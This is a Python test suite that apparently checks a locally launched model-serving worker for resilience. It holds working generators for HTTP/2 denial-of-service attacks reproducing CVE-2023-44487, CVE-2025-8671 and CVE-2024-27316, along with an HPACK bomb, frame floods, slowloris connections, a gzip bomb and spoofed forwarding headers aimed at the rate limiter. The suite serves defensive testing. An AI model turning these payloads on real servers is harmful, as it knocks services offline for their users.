"""Attacks on a real worker: what they cost it, and what a bystander notices

Each prints the worker's memory and the bystander's 99th percentile; `pytest -s` shows them.
"""

import gzip
import socket
import struct
import threading
import time
from contextlib import ExitStack, suppress
from urllib.parse import urlsplit

import pytest
from attacking import MEMORY, listener, watched
from conftest import free_port
from served import plain_model, worker

(
    DATA,
    HEADERS,
    PRIORITY,
    RESET,
    SETTINGS,
    PUSH,
    PING,
    GOAWAY,
    WINDOW,
    CONTINUATION,
) = range(10)
END_STREAM, END_HEADERS = 1, 4
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    "Host and port of HTTP and of gRPC, and the process"
    grpc_port = free_port()
    with worker(tmp_path_factory.mktemp("s"), {"plain": plain_model()}, grpc_port=grpc_port) as url:
        at = urlsplit(url)
        yield (at.hostname, at.port), (at.hostname, grpc_port), listener(at.port)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    "A header of HPACK, literal and without use of the table"
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


def head(path: bytes, method: bytes = b"GET") -> bytes:
    fields = (b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")
    return b"".join(header(*field) for field in fields)


def settings(**values: int) -> bytes:
    known = {"table": 1, "push": 2, "streams": 3, "window": 4, "size": 5, "list": 6}
    numbers = ((known[k], v) for k, v in values.items())
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *n) for n in numbers))


def throw(at: tuple[str, int], *pieces: bytes, seconds: float = 1.5) -> None:
    "Send as much as the server takes, and read what it says, until it hangs up or time is over"
    end = time.monotonic() + seconds
    with suppress(OSError), socket.create_connection(at, timeout=1) as s:
        s.setblocking(False)
        data = memoryview(b"".join(pieces))
        while time.monotonic() < end:
            with suppress(BlockingIOError):
                if data:
                    data = data[s.send(data) :]
            with suppress(BlockingIOError):
                if not s.recv(65536):
                    return
            if not data:
                time.sleep(0.01)


def _windows() -> bytes:
    "Opens a closed window by one byte at a time"
    asked = frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/docs"))
    one = frame(WINDOW, 0, 1, struct.pack(">I", 1))
    return settings(window=0) + asked + one * 20_000


def _resets() -> bytes:
    "Asks and takes back at once, as in CVE-2023-44487"
    return settings() + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, i, head(b"/docs"))
        + frame(RESET, 0, i, struct.pack(">I", 8))
        for i in range(1, 20_001, 2)
    )


def _made_to_reset() -> bytes:
    "Has the server take back, as in CVE-2025-8671"
    return settings() + b"".join(
        frame(HEADERS, END_HEADERS, i, head(b"/predict", b"POST"))
        + frame(WINDOW, 0, i, struct.pack(">I", 0))
        for i in range(1, 20_001, 2)
    )


def _continuations() -> bytes:
    "Headers without an end, as in CVE-2024-27316"
    start = frame(HEADERS, 0, 1, head(b"/docs"))
    more = b"".join(header(b"a%d" % i, b"b" * 100) for i in range(140))
    return settings() + start + frame(CONTINUATION, 0, 1, more) * 600


def _table() -> bytes:
    "One long header, put into the table once and named some thousand times"
    long = b"\x40\x01x\x7f" + bytes((0x81, 0x1E)) + b"b" * (127 + 0x81 - 128 + (0x1E << 7))
    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/docs") + long)
    bomb = head(b"/docs") + b"\xbe" * 15_000
    return (
        settings()
        + first
        + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, bomb) for i in range(3, 60, 2))
    )


HTTP2 = {
    "windows": _windows,
    "resets": _resets,
    "made to reset": _made_to_reset,
    "continuations": _continuations,
    "table": _table,
    "settings": lambda: settings() * 50_000,
    "pings": lambda: settings() + frame(PING, 0, 0, bytes(8)) * 100_000,
    "priorities": lambda: (
        settings() + b"".join(frame(PRIORITY, 0, i, bytes(5)) for i in range(1, 100_001, 2))
    ),
    "empty data": lambda: (
        settings()
        + frame(HEADERS, END_HEADERS, 1, head(b"/predict", b"POST"))
        + frame(DATA, 0, 1) * 200_000
    ),
    "unknown frames": lambda: settings() + frame(99, 0, 0, bytes(100)) * 50_000,
    "streams that stay open": lambda: (
        settings()
        + b"".join(
            frame(HEADERS, END_HEADERS, i, head(b"/predict", b"POST")) for i in range(1, 20_001, 2)
        )
    ),
}


@pytest.mark.parametrize("name", HTTP2)
@pytest.mark.parametrize("wire", ["HTTP", "gRPC"])
def test_abuse_of_http2(served, name, wire):
    at = served[0] if wire == "HTTP" else served[1]
    data = HELLO + HTTP2[name]()
    # grpcio takes some 25 MB for a connection whose headers do not end, and keeps them
    memory = MEMORY * (1 if wire == "HTTP" else 3)
    with watched(served, f"{wire}, {name}", memory):
        attackers = [threading.Thread(target=throw, args=(at, data)) for _ in range(4)]
        for attacker in attackers:
            attacker.start()
        for attacker in attackers:
            attacker.join()


def test_silent_and_slow_connections(served):
    "Four hundred that say nothing, or the beginning of something"
    starts = b"", b"P", b"PRI * HTTP/2.0\r\n", b"GET / HTTP/1.1\r\nHost: x\r\n", b"POST / HTTP/1.1"
    with watched(served, "silent and slow"), ExitStack() as stack:
        for i in range(400):
            s = stack.enter_context(socket.create_connection(served[0], timeout=10))
            s.sendall(starts[i % len(starts)])
        time.sleep(1)


def test_clients_that_never_read(served):
    asked = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n"
    with watched(served, "never reads"), ExitStack() as stack:
        for _ in range(100):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            stack.enter_context(s)
            s.connect(served[0])
            s.setblocking(False)
            with suppress(BlockingIOError):
                s.send(asked * 1000)
        time.sleep(1)


def test_large_answers_that_nobody_reads(served):
    "Each of fifty clients asks for two megabytes and reads nothing: together, more than is kept"
    body = b"[" + b",".join([b"[1,2,3,4]"] * 25_000) + b"]"
    head = b"POST /predict/plain HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body)
    with watched(served, "unread answers", 2 * MEMORY), ExitStack() as stack:
        for _ in range(50):
            time.sleep(0.1)  # else a bystander is refused for the work that they make
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            stack.enter_context(s)
            s.connect(served[0])
            s.settimeout(5)
            with suppress(OSError):
                s.sendall(head + body)
        time.sleep(2)


def test_bodies_that_do_not_come(served):
    "Thirty-two megabytes are announced by each of two hundred clients"
    start = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Length: 33000000\r\n\r\n"
    with watched(served, "announced bodies"), ExitStack() as stack:
        for _ in range(200):
            s = stack.enter_context(socket.create_connection(served[0], timeout=10))
            s.sendall(start + bytes(1000))
        time.sleep(1)


def test_compressed_bombs(served):
    bomb = gzip.compress(bytes(400 << 20), 9)
    sent = (
        b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
        % len(bomb)
    ) + bomb
    with watched(served, "gzip"):
        for _ in range(5):
            throw(served[0], sent, seconds=0.5)


def test_invented_identities(tmp_path):
    "2,000 names and addresses that a client writes are one client, and leave all others theirs"
    request = (
        "POST /v1/models/plain:predict HTTP/1.1\r\nHost: x\r\nContent-Length: 29\r\n"
        "X-Client-Id: invented {0}\r\nX-Forwarded-For: 10.0.{1}.{2}\r\n"
        "Forwarded: for=10.0.{1}.{2}\r\n"
        '\r\n{{"instances": [[1, 2, 3, 4]]}}'
    )
    with worker(tmp_path, {"plain": plain_model()}, rate=400.0) as url:
        at = urlsplit(url).hostname, urlsplit(url).port
        with (
            watched((at, None, listener(at[1])), "invented identities"),
            socket.create_connection(at, timeout=20, source_address=("127.0.0.3", 0)) as s,
            s.makefile("rb") as answers,
        ):
            start, found = time.monotonic(), []
            for i in range(2000):
                s.sendall(request.format(i, i // 250, i % 250).encode())
                found.append(int(answers.readline().split()[1]))
                length = 0
                while (line := answers.readline()) != b"\r\n":
                    if line.startswith(b"content-length"):
                        length = int(line.split()[1])
                answers.read(length)
            seconds = time.monotonic() - start
    assert set(found) == {200, 429} and found.count(200) < 400 + 400 * seconds + 5
